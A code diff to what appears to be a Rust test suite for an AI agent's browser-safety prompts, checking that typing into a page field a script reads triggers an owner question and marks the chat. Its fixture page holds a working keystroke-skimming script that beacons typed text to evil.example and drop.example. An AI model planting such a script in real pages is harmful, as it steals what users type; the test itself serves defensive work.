@@ -49,6 +49,23 @@ setInterval(() => fetch("/state").then(r => r.text()).then(s => {
 }), 50);
 </script>"#;
 
+/// A shop whose search box a script reads as it is typed into, sending
+/// each keystroke to evil.example; its note box has no listener, but a
+/// timer reads it and sends it to drop.example.
+const SHOP: &str = r#"<!doctype html><title>Shop</title>
+<label>Search <input id="q"></label>
+<label>Note <input id="n"></label>
+<script>
+document.getElementById("q").addEventListener("input", (e) => {
+  new Image().src = "http://evil.example:PORT/beacon?q=" + encodeURIComponent(e.target.value);
+});
+let sent = "";
+setInterval(() => {
+  const v = document.getElementById("n").value;
+  if (v && v !== sent) { sent = v; fetch("http://drop.example:PORT/beacon?n=" + encodeURIComponent(v), { mode: "no-cors" }); }
+}, 50);
+</script>"#;
+
 async fn serve() -> (SocketAddr, Arc<Site>) {
     let site = Arc::new(Site::default());
     let s1 = site.clone();
@@ -82,6 +99,29 @@ async fn serve() -> (SocketAddr, Arc<Site>) {
                 let host = headers.get("host").and_then(|h| h.to_str().ok()).unwrap_or("");
                 let port = host.rsplit(':').next().unwrap_or("").to_owned();
                 Html(COMPOSE.replace("PORT", &port))
+            }),
+        )
+        .route(
+            "/shop",
+            get(|headers: axum::http::HeaderMap| async move {
+                let host = headers.get("host").and_then(|h| h.to_str().ok()).unwrap_or("");
+                let port = host.rsplit(':').next().unwrap_or("").to_owned();
+                Html(SHOP.replace("PORT", &port))
+            }),
+        )
+        .route(
+            "/beacon",
+            get({
+                let s4 = site.clone();
+                move |headers: axum::http::HeaderMap, q: axum::extract::RawQuery| async move {
+                    let host = headers.get("host").and_then(|h| h.to_str().ok()).unwrap_or("");
+                    let host = host.split(':').next().unwrap_or("").to_owned();
+                    s4.posted
+                        .lock()
+                        .unwrap()
+                        .push(format!("{host}:{}", q.0.unwrap_or_default()));
+                    ""
+                }
             }),
         )
         .route(
@@ -827,4 +867,104 @@ async fn a_click_that_would_send_a_secret_the_reviewer_cant_see_goes_to_the_owne
     let posted = w.site.posted.lock().unwrap().clone();
     assert_eq!(posted.len(), 1, "the owner's yes sent it");
     assert!(posted[0].contains("pw=hunter2"), "{posted:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn typing_a_page_reads_is_a_send_and_what_it_then_reaches_marks_the_chat() {
+    let w = world(Mode::Ask, false).await;
+    let chat = w.chats.create(NewChat::default()).await.unwrap();
+    w.step(
+        &chat,
+        "Open the shop",
+        call("c1", "browser_open", json!({"url": w.url("shop.example", "/shop")})),
+    )
+    .await;
+    // The note box: no script listens, so typing is no send; the site's
+    // first use asks, and the owner covers the site.
+    let note = w.r#ref(&chat, "textbox", "Note");
+    let events = w
+        .step(
+            &chat,
+            "Note it",
+            call("c2", "browser_type", json!({"ref": note, "text": "für Zoë"})),
+        )
+        .await;
+    let ask = asks(&events).pop().expect("the site's first use asks");
+    assert_eq!(ask.why, ["after-reading.browser-site"], "{}", ask.question);
+    let n = chat.log.events_after(0).unwrap().len();
+    chat.answer(&ask.ask, Answer::Always, "owner".into())
+        .await
+        .unwrap();
+    let events = until(&chat, n, |e| matches!(e.body, Body::TurnEnded(_))).await;
+    assert!(finished(&events, "c2").ok);
+    // The page's timer sent the note to drop.example: the browser saw the
+    // request, and the chat is marked with that site.
+    let events = until(&chat, 0, |e| {
+        matches!(&e.body, Body::Taint(t) if t.what == "drop.example")
+    })
+    .await;
+    assert!(w
+        .site
+        .posted
+        .lock()
+        .unwrap()
+        .iter()
+        .any(|p| p.starts_with("drop.example:n=f%C3%BCr")));
+    let drop = events
+        .iter()
+        .find_map(|e| match &e.body {
+            Body::Taint(t) if t.what == "drop.example" => Some(t.clone()),
+            _ => None,
+        })
+        .unwrap();
+    assert_eq!(drop.source, protocol::MarkSource::Page);
+    // The search box: its script reads every keystroke, so typing is a
+    // send, asked each time, naming where the page has sent requests.
+    let search = w.r#ref(&chat, "textbox", "Search");
+    let events = w
+        .step(
+            &chat,
+            "Search for shoes",
+            call("c3", "browser_type", json!({"ref": search, "text": "shoes"})),
+        )
+        .await;
+    let ask = asks(&events).pop().expect("typing the script reads asks");
+    assert!(
+        ask.why.contains(&"mode.ask-browser-send".to_owned()),
+        "{:?}",
+        ask.why
+    );
+    assert!(
+        ask.question.contains("The page's own script reads what is typed there")
+            && ask.question.contains("drop.example"),
+        "{}",
+        ask.question
+    );
+    assert!(
+        !w.site.posted.lock().unwrap().iter().any(|p| p.starts_with("evil.example")),
+        "nothing was typed before the yes"
+    );
+    let n = chat.log.events_after(0).unwrap().len();
+    chat.answer(&ask.ask, Answer::Once, "owner".into())
+        .await
+        .unwrap();
+    let events = until(&chat, n, |e| matches!(e.body, Body::TurnEnded(_))).await;
+    let f = finished(&events, "c3");
+    assert!(f.ok, "{}", f.output);
+    assert!(
+        f.output.contains("The page's own script reads this field"),
+        "{}",
+        f.output
+    );
+    until(&chat, 0, |e| {
+        matches!(&e.body, Body::Taint(t) if t.what == "evil.example")
+    })
+    .await;
+    assert!(w
+        .site
+        .posted
+        .lock()
+        .unwrap()
+        .iter()
+        .any(|p| p == "evil.example:q=shoes"));
 }
